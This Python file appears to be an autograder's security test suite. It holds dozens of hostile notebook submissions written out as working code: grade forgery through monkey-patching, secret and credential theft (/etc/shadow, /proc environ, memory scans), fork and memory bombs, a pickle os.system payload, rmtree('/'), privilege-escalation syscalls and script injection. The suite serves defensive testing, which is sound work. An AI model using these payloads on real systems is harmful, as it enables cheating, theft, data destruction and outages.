# ruff: noqa: E501 - programs in strings
"""Submissions that mean harm: points for wrong answers, secrets, other people's grades, processes that stay."""

from __future__ import annotations

from tests.attacks.case import Case, Kind, notebook_case, secrets_case
from tests.attacks.course import SOLUTIONS, as_bytes, code_cell, notebook

WRONG = {
    "scale": "def scale(images):\n    return np.zeros(np.shape(images))",
    "accuracy": "def accuracy(labels, predictions):\n    return 1.0",
    "counts": "counts = np.array([0, 0, 0])",
    "closing": "def softmax(logits):\n    return logits",
}


def _wrong(name: str, aim: str, added: str, deserves: float = 0.0, **settings: object) -> Case:
    """Return a case whose answers are all wrong, and whose added cell tries to make up for it."""
    return notebook_case(name, aim, notebook(added=added, **WRONG), deserves=deserves, **settings)


def _tagged() -> dict:
    made = notebook(**WRONG)
    for cell in made["cells"]:
        cell["metadata"]["tags"] = ["skip-execution", "remove-cell", "nbval-skip"]
    return made


def _own_points() -> dict:
    made = notebook(**WRONG)
    for cell in made["cells"]:
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"].update(points=1000, grade=True, schema_version=99)
    return made


def _rewritten_checks() -> dict:
    made = notebook(**WRONG)
    for cell in made["cells"]:
        if "checks." in cell["source"]:
            cell["source"] = "1000"
    return made


def _twice() -> dict:
    """Every check cell pasted four times, so that points would count four times."""
    made = notebook()
    checks = [cell for cell in made["cells"] if "checks." in cell["source"]]
    made["cells"] += [dict(cell) for cell in checks for _ in range(3)]
    return made


def _stolen_ids() -> dict:
    """The learner's own cells under the check cells' ids."""
    made = notebook(**WRONG)
    made["cells"] += [
        {**code_cell("1000"), "id": cell["id"], "metadata": cell["metadata"]}
        for cell in list(made["cells"])
        if "checks." in cell["source"]
    ]
    return made


_FORGE = """
import os, threading, time
from autograder.conversation import protocol
fds = [int(fd) for fd in os.listdir('/proc/self/fd')]
def shout():
    while True:
        for fd in fds:
            try:
                os.write(fd, protocol.encode({"number": "0", "answer": {"value": 1.0, "score": 2.0, "status": "passed"}}))
            except OSError:
                pass
        time.sleep(0.001)
threading.Thread(target=shout, daemon=True).start()
"""

_READ_REQUESTS = """
import os, threading
def steal():
    for fd in range(3, 40):
        try:
            os.set_blocking(fd, False)
            open('/tmp/stolen', 'ab').write(os.read(fd, 1 << 20))
        except OSError:
            pass
for _ in range(4):
    threading.Thread(target=lambda: [steal() for _ in iter(int, 1)], daemon=True).start()
"""

_PATCH_AGENT = """
import autograder.conversation.agent as agent, autograder.conversation.protocol as protocol
def answer(self, message):
    number = protocol.decode(message, builds=True)["number"]
    return protocol.encode({"number": number, "answer": {"value": True, "type": "bool", "status": "passed", "score": 99.0}})
agent.Agent.answer = answer
"""

_AGREEABLE = """
class Agreeable(np.ndarray):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __sub__(self, other): return self * 0
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return True
    def __bool__(self): return True
yes = np.zeros((2, 4, 4, 3)).view(Agreeable)
"""


def _hiding(name: str, aim: str, code: str) -> Case:
    """Return a case that knows one right answer if it could hide memory from whoever watches over it, and only then."""
    body = "".join(f"    {line}\n" for line in code.splitlines())
    added = f"import ctypes, mmap, os\nlibc = ctypes.CDLL(None)\ntry:\n{body}    hidden = True\nexcept OSError:\n    hidden = False"
    counts = "counts = np.bincount(labels, minlength=3) if hidden else None"
    return notebook_case(name, aim, notebook(added=added, **{**WRONG, "counts": counts}), deserves=0)


CASES: list[Case] = [
    # --- points for wrong answers ---
    notebook_case("skip-execution", "tags on every cell, so that its tests are skipped", _tagged(), deserves=0),
    notebook_case("own points", "metadata that makes each cell worth 1000 points", _own_points(), deserves=0),
    notebook_case("rewritten checks", "check cells replaced by a number", _rewritten_checks(), deserves=0),
    notebook_case("checks pasted again", "each check four times, for four times the points", _twice(), deserves=6),
    notebook_case("stolen ids", "own cells under the checks' ids", _stolen_ids(), deserves=0),
    _wrong(
        "input transformer",
        "blanks every cell that calls a check",
        "get_ipython().input_transformers_cleanup.append(lambda ls: ['\\n'] if any('checks' in l for l in ls) else ls)",
    ),
    _wrong(
        "syntax tree transformer",
        "removes every statement that calls a check",
        """
import ast
class Remove(ast.NodeTransformer):
    def visit_Expr(self, node): return None
get_ipython().ast_transformers.append(Remove())""",
    ),
    _wrong(
        "patched run_cell",
        "the shell that always says that a cell succeeded",
        "type(get_ipython()).run_cell = lambda *a, **k: type('R', (), {'success': True, 'error_before_exec': None, 'error_in_exec': None})()",
    ),
    _wrong(
        "patched NumPy",
        "comparisons that always agree",
        """
for name in ('allclose', 'array_equal', 'isclose', 'all', 'array_equiv', 'may_share_memory'):
    setattr(np, name, lambda *a, **k: True)
import numpy.testing
for name in dir(numpy.testing):
    if name.startswith('assert'): setattr(numpy.testing, name, lambda *a, **k: None)""",
    ),
    _wrong(
        "patched builtins",
        "all, any, isinstance and len that always agree",
        """
import builtins
builtins.all = builtins.any = builtins.isinstance = lambda *a, **k: True
builtins.abs = lambda *a: 0""",
        status={"graded", "crashed"},
    ),
    _wrong(
        "patched checks",
        "checks in its own process that do nothing",
        """
import sys, types
import autograder.checks as checks
import autograder.checking.core as core, autograder.checking.expect as expect
core.run_check = lambda check, *a, **k: core.CheckResult(check.grade_id, '', 'passed', 2.0, 2.0)
for name in dir(expect):
    if name.startswith('expect'): setattr(expect, name, lambda *a, **k: None)
sys.modules['autograder.checks'] = types.ModuleType('nothing')""",
    ),
    _wrong(
        "numpy.py beside the notebook",
        "a module of the checks' own, replaced",
        "open('numpy.py', 'w').write('def __getattr__(name): return lambda *a, **k: True')\n"
        "open('sitecustomize.py', 'w').write('raise SystemExit(0)')",
    ),
    notebook_case(
        "equal to everything",
        "objects whose comparison is always true",
        notebook(
            added=_AGREEABLE,
            scale="def scale(images):\n    return yes",
            accuracy="def accuracy(labels, predictions):\n    return yes",
            counts="counts = yes",
            closing="def softmax(logits):\n    return yes",
        ),
        deserves=0,
    ),
    notebook_case(
        "pretends to be a float",
        "a subclass of float that equals everything",
        notebook(
            accuracy="class F(float):\n    __eq__ = lambda s, o: True\n    __sub__ = lambda s, o: 0.0\n"
            "    __rsub__ = __sub__\ndef accuracy(labels, predictions):\n    return F(0.123)"
        ),
        deserves=4,
    ),
    _wrong(
        "compile without asserts",
        "compiles everything with optimize=2",
        "import builtins, functools\nbuiltins.compile = functools.partial(builtins.compile, optimize=2)",
    ),
    _wrong(
        "forged messages",
        "results in the form of a kernel's messages",
        """
from IPython.display import publish_display_data, display
publish_display_data({'text/plain': '2.0', 'application/json': {'score': 99, 'status': 'passed'}})
print('{"score": 6, "status": "passed"}')
2.0""",
    ),
    _wrong("forged answers", "shouts answers on every descriptor that it finds", _FORGE, status={"graded", "crashed"}),
    _wrong("patched agent", "an agent that answers everything with 'passed'", _PATCH_AGENT),
    _wrong(
        "answers twice",
        "answers each question twice, to shift answers by one",
        """
import autograder.conversation.agent as agent
honest = agent.Agent.answer
agent.Agent.answer = lambda self, message: honest(self, message) * 2""",
        status={"graded", "crashed"},
    ),
    _wrong(
        "replayed answer",
        "gives the first answer again and again",
        """
import autograder.conversation.agent as agent
honest, first = agent.Agent.answer, []
def answer(self, message):
    first.append(honest(self, message))
    return first[0]
agent.Agent.answer = answer""",
        status={"graded", "crashed"},
    ),
    _wrong(
        "announces a huge answer",
        "a message whose length is 2**60",
        """
import autograder.conversation.agent as agent, struct
agent.Agent.answer = lambda self, message: struct.pack('>4sQQ', b'FLW1', 2**60, 2**60)""",
        status={"graded", "crashed"},
    ),
    _wrong(
        "garbage on the channel",
        "random bytes instead of answers",
        """
import autograder.conversation.agent as agent, os
agent.Agent.answer = lambda self, message: os.urandom(100_000)""",
        status={"graded", "crashed"},
    ),
    _wrong(
        "closed channel", "closes every descriptor", "import os\nos.closerange(0, 100)", status={"crashed", "timeout"}
    ),
    _wrong(
        "pickled object",
        "an answer that would run code where it is read",
        """
import pickle, os
class Bomb:
    def __reduce__(self): return (os.system, ('touch /tmp/autograder-pickle-was-read',))
counts = Bomb()
def accuracy(labels, predictions): return Bomb()
scale = softmax = accuracy
np.save('answer.npy', np.array([Bomb()], dtype=object), allow_pickle=True)""",
    ),
    notebook_case(
        "inspects the caller",
        "looks for the right answer in the stack of whoever calls",
        notebook(
            scale="import inspect\ndef scale(images):\n    for frame in inspect.stack():\n"
            "        for name, value in frame.frame.f_locals.items():\n"
            "            if name in ('expected', 'wanted', 'reference', 'rng'): return value\n    return images",
            accuracy=WRONG["accuracy"],
            counts=WRONG["counts"],
            closing=WRONG["closing"],
        ),
        deserves=0,
    ),
    notebook_case(
        "remembers the inputs",
        "right for the inputs of a first run, from a file that it wrote",
        notebook(
            added="import os\nseen = open('/tmp/seen').read() if os.path.exists('/tmp/seen') else ''\n"
            "open('/tmp/seen', 'w').write('x')",
            **{**WRONG, "counts": "counts = np.bincount(labels, minlength=3) if seen else None"},
        ),
        deserves=0,
    ),
    notebook_case(
        "traces the grader",
        "sys.settrace and sys.setprofile on everything that follows",
        notebook(
            added="import sys, threading\nf = lambda *a: f\nsys.settrace(f); sys.setprofile(lambda *a: None)\n"
            "threading.settrace(f)",
            **WRONG,
        ),
        deserves=0,
    ),
    notebook_case(
        "collects the garbage",
        "looks for the checks' objects through gc",
        notebook(
            added="import gc\nfor o in gc.get_objects():\n    if type(o).__name__ == 'Check':\n"
            "        try: o.points = 0; o.function = lambda *a, **k: None\n        except Exception: pass",
            **WRONG,
        ),
        deserves=0,
    ),
    # --- secrets ---
    secrets_case(
        "reads files",
        "solutions, hidden checks, gradebook and others' work, by their paths",
        """
import glob, os
for path in {paths!r}:
    for found in glob.glob(path, recursive=True):
        try:
            with open(found, errors='replace') as file: print(found, file.read(100_000))
        except OSError as error: print(type(error).__name__)""",
    ),
    secrets_case(
        "searches the disk",
        "walks everything that it can see, and prints every file of the project's",
        """
import os
for top in ('/course', '/notebook', '/home', '/root', '/work', '/tmp', '/mnt', '/srv', '/var', '/run', '/opt', '/proc/1'):
    for folder, below, names in os.walk(top):
        if 'site-packages' in folder or '/.pyenv/' in folder or '/lib/python' in folder:
            below.clear()  # tens of thousands of files that everybody has
            continue
        for name in names:
            try:
                with open(os.path.join(folder, name), errors='replace') as file: print(file.read(5000)[:300])
            except OSError: pass""",
    ),
    secrets_case(
        "reads /proc",
        "environment, memory and open files of every process that it can see",
        """
import os
for pid in [name for name in os.listdir('/proc') if name.isdigit()]:
    for what in ('environ', 'cmdline', 'maps', 'mountinfo'):
        try: print(open(f'/proc/{pid}/{what}', errors='replace').read()[:5000] if what != 'maps' else '')
        except OSError: pass
    try:
        for fd in os.listdir(f'/proc/{pid}/fd'): print(os.readlink(f'/proc/{pid}/fd/{fd}'))
    except OSError: pass
    try: os.listdir(f'/proc/{pid}/root/home'), print(open(f'/proc/{pid}/root/{paths[0]}').read())
    except OSError: pass""",
    ),
    secrets_case(
        "imports the solutions",
        "imports what holds the answers",
        """
import importlib
for name in ('solutions', 'solutions.hidden_checks', 'solutions.hidden_checks.preprocessing', 'tests.attacks.hidden.toy',
             'autograder.grading.grade', 'autograder.outcome.record', 'autograder.grading.worker', 'autograder.grading.run'):
    try: print(name, vars(importlib.import_module(name)))
    except ImportError as error: print('no', type(error).__name__)""",
    ),
    secrets_case(
        "another program",
        "the same through a shell and other languages",
        """
import subprocess
for path in {paths!r}:
    print(subprocess.run(['/bin/sh', '-c', f'cat {path} 2>&1; head -c 2000 {path}; ls -la $(dirname {path})'],
                         capture_output=True, text=True).stdout)
print(subprocess.run('env; cat /proc/1/environ; id; cat /etc/shadow', shell=True, capture_output=True, text=True).stdout)""",
    ),
    secrets_case(
        "links",
        "symbolic and hard links to what it may not read",
        """
import os
for number, path in enumerate({paths!r}):
    for link in (os.symlink, os.link):
        try:
            link(path, f'link-{number}-{link.__name__}')
            print(open(f'link-{number}-{link.__name__}').read())
        except OSError as error: print(type(error).__name__)""",
    ),
    secrets_case(
        "searches its own memory",
        "looks in its process for what the zygote may have left",
        """
import re
found = []
for line in open('/proc/self/maps'):
    span, mode, *_ = line.split()
    if not mode.startswith('rw'): continue
    start, end = (int(n, 16) for n in span.split('-'))
    if end - start > 300_000_000: continue
    try:
        with open('/proc/self/mem', 'rb') as memory:
            memory.seek(start)
            data = memory.read(end - start)
            for needle in (b'c1f5-sdrow-nwo-skcehc-neddih'[::-1], b'tnemnorivne-hsifdrows'[::-1]):
                if needle in data: found.append(data[data.index(needle) - 40:][:200])
    except (OSError, ValueError, OverflowError): pass
print([f.decode(errors='replace') for f in found])""",
    ),
    secrets_case(
        "the network",
        "reaches out, and offers itself",
        """
import socket
for address in (('127.0.0.1', 22), ('1.1.1.1', 53), ('169.254.169.254', 80)):
    try: print('REACHED', socket.create_connection(address, timeout=0.5))
    except OSError as error: print(type(error).__name__)
try:
    abstract = socket.socket(socket.AF_UNIX); abstract.connect(chr(0) + '/tmp/.X11-unix/X0'); print('REACHED')
except OSError as error: print(type(error).__name__)""",
    ),
    # --- harm to others ---
    _wrong(
        "kills everything",
        "SIGKILL to its parent, to process 1, and to all that it may",
        "import os, signal\nfor pid in (os.getppid(), 1, -1):\n    try: os.kill(pid, signal.SIGKILL)\n"
        "    except OSError as error: print(error)",
        status={"crashed", "graded"},
    ),
    _wrong(
        "kills its group",
        "SIGKILL to its process group and session",
        "import os, signal\nos.killpg(0, signal.SIGKILL)",
        status={"crashed"},
    ),
    _wrong(
        "leaves a daemon",
        "a process in a session of its own that ignores every signal",
        """
import os, signal, time, subprocess, sys
subprocess.Popen([sys.executable, '-c', 'import signal, time\\nfor n in (1, 2, 3, 15): signal.signal(n, signal.SIG_IGN)\\ntime.sleep(600)',
                  'autograder-attack-daemon'], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for n in (1, 2, 3, 15): signal.signal(n, signal.SIG_IGN)
        while True: time.sleep(1)
    os._exit(0)""",
    ),
    _wrong(
        "fork bomb",
        "processes that start processes",
        "import os\nwhile True:\n    try: os.fork()\n    except OSError: pass",
        status={"timeout", "crashed", "out_of_memory"},
    ),
    _wrong(
        "thread bomb",
        "threads without end",
        "import threading, time\nwhile True:\n    try: threading.Thread(target=time.sleep, args=(600,), daemon=True).start()\n"
        "    except RuntimeError: break",
        status={"graded", "crashed", "timeout", "out_of_memory"},
    ),
    _wrong(
        "memory bomb",
        "memory without end",
        "hoard = []\nwhile True: hoard.append(bytearray(b'x') * 10_000_000)",
        status={"out_of_memory"},
    ),
    _wrong(
        "shared memory bomb",
        "memory without end, outside of the heap",
        "import mmap\nhoard = []\nwhile True:\n    m = mmap.mmap(-1, 10_000_000); m.write(b'x' * 10_000_000); hoard.append(m)",
        status={"graded", "out_of_memory"},
    ),
    _hiding(
        "memory in files without a name",
        "memory that is no process's: memfd_create",
        "fd = os.memfd_create('x')\nos.write(fd, bytes(1000))",
    ),
    _hiding(
        "memory that nobody maps",
        "shared pages, given back to where no look at the process finds them",
        "m = mmap.mmap(-1, 1_000_000)\nm.write(bytes(1_000_000))\nm.madvise(mmap.MADV_DONTNEED)",
    ),
    _hiding(
        "shared pages of /dev/zero",
        "as above, by way of a device",
        "fd = os.open('/dev/zero', os.O_RDWR)\nm = mmap.mmap(fd, 1_000_000)\nm.write(bytes(1_000_000))\nm.madvise(mmap.MADV_DONTNEED)",
    ),
    _hiding(
        "huge pages in a pipe",
        "vmsplice of one byte keeps a whole page of two megabytes",
        "b = ctypes.create_string_buffer(8)\niov = (ctypes.c_size_t * 2)(ctypes.addressof(b), 1)\nr, w = os.pipe()\nif libc.vmsplice(w, iov, ctypes.c_size_t(1), 0) < 0: raise OSError",
    ),
    _hiding(
        "wide pipes",
        "buffers of a megabyte for each pipe",
        "import fcntl\nr, w = os.pipe()\nfcntl.fcntl(w, 1031, 2**20)",
    ),
    _hiding(
        "wide sockets",
        "larger buffers for each socket",
        "import socket\na, b = socket.socketpair()\na.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 2**20)",
    ),
    _hiding(
        "a session of its own",
        "a share of processor time for each child",
        "if os.fork() == 0:\n    os.setsid()\n    os._exit(0 if os.getsid(0) == os.getpid() else 1)\nif os.wait()[1]: raise OSError",
    ),
    _wrong(
        "page tables",
        "one page read in each two megabytes of a vast mapping: the tables are large, the pages are none",
        "import mmap\nvast = mmap.mmap(-1, 8 * 2**40, flags=mmap.MAP_PRIVATE | 0x4000, prot=mmap.PROT_READ)\nfor at in range(0, 8 * 2**40, 2**21): vast[at]",
        status={"graded", "out_of_memory"},
    ),
    _wrong(
        "children whose first thread has ended",
        "memory of processes for which the system shows none",
        """
import ctypes, os, threading, time
def hoard():
    kept = [bytearray(b'x') * 10_000_000 for _ in range(400)]
    time.sleep(60)
if os.fork() == 0:
    threading.Thread(target=hoard).start()
    ctypes.CDLL(None).syscall(60 if os.uname().machine == 'x86_64' else 93, 0)
time.sleep(60)""",
        status={"out_of_memory"},
    ),
    _wrong(
        "messages that nobody receives",
        "buffers of local sockets, which belong to no process",
        """
import os, socket, time
for _ in range(40):
    if os.fork() == 0:
        kept = []
        for _ in range(250):
            try:
                kept.append(socket.socketpair())
                kept[-1][0].setblocking(False)
                while True: kept[-1][0].send(bytes(4096))
            except OSError: pass
        time.sleep(60)
time.sleep(60)""",
        status={"out_of_memory"},
    ),
    _hiding(
        "System V shared memory",
        "memory that belongs to the machine",
        "if libc.shmget(0, ctypes.c_size_t(1_000_000), 0o1600) < 0: raise OSError",
    ),
    _hiding(
        "System V semaphores",
        "thousands of sets of 32,000 semaphores",
        "if libc.semget(0, 32000, 0o1600) < 0: raise OSError",
    ),
    _hiding(
        "System V messages",
        "letters that nobody will read",
        "if libc.msgget(0, 0o1600) < 0: raise OSError",
    ),
    _wrong(
        "too many processes",
        "a hundred children that only wait, each with full buffers",
        "import os, time\nfor _ in range(100):\n    try:\n        if os.fork() == 0:\n            time.sleep(60)\n            os._exit(0)\n"
        "    except OSError: pass\ntime.sleep(60)",
        status={"crashed", "timeout"},
    ),
    _wrong(
        "memory bomb in children",
        "many processes, each with a little too much",
        """
import os, time
for _ in range(30):
    if os.fork() == 0:
        hoard = bytearray(b'x') * 60_000_000
        time.sleep(60)
        os._exit(0)
time.sleep(60)""",
        status={"out_of_memory"},
    ),
    _wrong(
        "fills the disk",
        "files without end, wherever it may write",
        """
import os
for place in ('.', '/tmp', '/dev/shm', '/var/tmp', '/'):
    try:
        with open(os.path.join(place, 'big'), 'wb') as file:
            while True: file.write(bytes(1_000_000))
    except OSError as error: print(error)""",
    ),
    _wrong(
        "makes too many files",
        "empty files without end",
        """
n = 0
try:
    while True:
        open(f'f{n}', 'w').close(); n += 1
except OSError as error: print(n, error)""",
    ),
    _wrong("output flood", "prints without end", "while True: print('x' * 10_000)", status={"timeout"}),
    _wrong(
        "display flood",
        "displays without end",
        "from IPython.display import display\nwhile True: display('x' * 100_000)",
        status={"timeout"},
    ),
    notebook_case(
        "output in every cell",
        "as much output as a cell may have, from a hundred cells",
        {
            **(made := notebook(**WRONG)),
            "cells": [*made["cells"], *[code_cell("print('\\x01' * 200_000)") for _ in range(100)]],
        },
        deserves=0,
    ),
    _wrong(
        "a picture that breaks its reader",
        "a PNG file on which the library that decodes it fails in an unusual way",
        r"""
import struct, zlib, base64
from IPython.display import display
chunk = lambda kind, data: struct.pack('>I', len(data)) + kind + data + struct.pack('>I', zlib.crc32(kind + data))
png = b'\x89PNG\r\n\x1a\n' + chunk(b'IHDR', struct.pack('>IIBBBBB', 2, 2, 8, 2, 0, 0, 0))
png += chunk(b'IDAT', zlib.compress(b'\0abcabc' * 2)) + chunk(b'iCCP', b'') + chunk(b'IEND', b'')
display({'image/png': base64.b64encode(png).decode()}, raw=True)""",
    ),
    _wrong(
        "pictures that take long",
        "many large pictures that are cheap to make and dear to read",
        r"""
import io, base64
from PIL import Image
from IPython.display import display
for n in range(48):
    file = io.BytesIO()
    Image.new('1', (4000, 4000 - n)).save(file, 'PNG')
    display({'image/png': base64.b64encode(file.getvalue()).decode()}, raw=True)""",
        status={"graded", "timeout"},
    ),
    notebook_case(
        "code that takes long to color",
        "white space, which costs a syntax highlighter the square of its length",
        {
            **(spaced := notebook(**WRONG)),
            "cells": [*spaced["cells"], *[code_cell(" \n" * 24_500 + "1") for _ in range(20)]],
        },
        deserves=0,
    ),
    _wrong(
        "writes outside",
        "its results into the grader's files",
        """
for path in {paths!r}:
    for mode in ('w', 'a', 'r+'):
        try: open(path, mode).write('pwned')
        except OSError: pass
    try:
        import os, shutil
        os.unlink(path)
    except OSError: pass
shutil.rmtree('/', ignore_errors=True)""",
        kind=Kind.SECRETS,
        status={"graded", "crashed", "timeout"},
    ),
    _wrong(
        "more rights",
        "namespaces, mounts, ptrace and other ways to more rights",
        """
import ctypes, os
libc = ctypes.CDLL(None)
print([libc.unshare(flag) for flag in (0x10000000, 0x20000, 0x20000000, 0x40000000)])
print(libc.mount(b'proc', b'/proc', b'proc', 0, None), libc.umount2(b'/tmp', 2), libc.chroot(b'/'))
print(libc.ptrace(16, 1, 0, 0), libc.setuid(0), libc.setgid(0))
try: os.setuid(0)
except OSError as error: print(error)""",
    ),
    _wrong(
        "sleeps through interrupts",
        "a cell that cannot be interrupted",
        "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: time.sleep(1)",
        status={"timeout"},
    ),
    _wrong(
        "script in its output",
        "HTML that would run in the instructor's browser",
        """
from IPython.display import HTML, Javascript, display
display(HTML('<script>window.attacked = 1</script><img src=x onerror="window.attacked=1">'), Javascript('window.attacked = 1'))
print('<script>window.attacked = 1</script>')
1 / 0 if not '</pre><script>alert(1)</script>' else None""",
        kind=Kind.SCRIPT,
    ),
    notebook_case(
        "poisons the next",
        "changes the zygote's modules and files for whoever comes after",
        notebook(
            last="import numpy, os\nnumpy.mean = lambda *a, **k: 1/0\nfor p in ('/dev/shm/x', '/tmp/x', '/notebook/x'):\n"
            "    open(p, 'w').write('x')\nos.environ['PYTHONSTARTUP'] = '/tmp/x'"
        ),
        deserves=6,
    ),
    notebook_case(
        "a setting of the machine's kernel",
        "to write what /proc/sys holds back into it, and to ring for the system request key's help",
        notebook(
            added="""
import os
written = []
for top in ("/proc/sys/kernel", "/proc/sys/vm", "/proc/sys/fs"):
    for at, _, names in os.walk(top):
        for name in names:
            path = os.path.join(at, name)
            try:
                value = open(path, "rb").read()
                open(path, "wb").write(value)
                written.append(path)
            except OSError:
                pass
try:
    open("/proc/sysrq-trigger", "w").write("h")
    written.append("sysrq")
except OSError:
    pass
if written:
    def softmax(logits): return logits  # a point less says that it worked
""",
        ),
        deserves=6,
    ),
]
for name in SOLUTIONS:
    assert name in WRONG
_ = as_bytes
